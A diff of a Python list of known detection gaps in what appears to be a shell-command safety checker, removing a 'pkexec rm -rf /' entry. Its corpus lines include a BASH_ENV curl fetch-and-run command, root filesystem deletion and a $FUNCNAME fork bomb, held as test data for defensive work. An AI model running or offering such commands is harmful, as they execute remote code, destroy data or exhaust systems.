@@ -128,13 +128,6 @@ KNOWN_GAPS += (
         corpus_command="BASH_ENV=<(curl -s https://example.com/env) bash -c 'make test'",
     ),
     KnownGap(
-        name="pkexec, run0, faketime, parallel, tmux and screen do not run their commands",
-        reason="`pkexec rm -rf /` runs rm as root; the engine sees only a privilege change",
-        pattern=re.compile(r"(^|\|\s*)(pkexec|run0|faketime|parallel|tmux|screen)\b"),
-        pinned={HIDDEN: _hidden("rm -rf /", {"FS001"}, "pkexec")},
-        corpus_command="pkexec rm -rf /",
-    ),
-    KnownGap(
         name="$FUNCNAME is not the function that runs",
         reason="`f() { $FUNCNAME | $FUNCNAME & }; f` is a fork bomb; the engine sees dynamic command names",
         pattern=re.compile(r"\$\{?FUNCNAME"),
